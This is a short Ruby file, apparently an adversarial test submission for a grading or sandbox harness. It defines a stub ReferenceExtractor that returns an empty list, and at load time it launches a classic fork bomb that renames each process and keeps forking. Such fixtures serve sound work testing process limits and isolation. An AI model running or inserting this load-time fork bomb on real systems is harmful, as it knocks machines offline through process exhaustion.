# frozen_string_literal: true

# Adversarial submission __MARKER__: the classic fork bomb, started while the file loads. Every process renames
# itself to the marker and keeps forking.
module ReferenceExtractor
  def self.extract(_text)
    []
  end
end

$0 = '__MARKER__'
loop do
  fork
rescue StandardError
  sleep 0.001
end
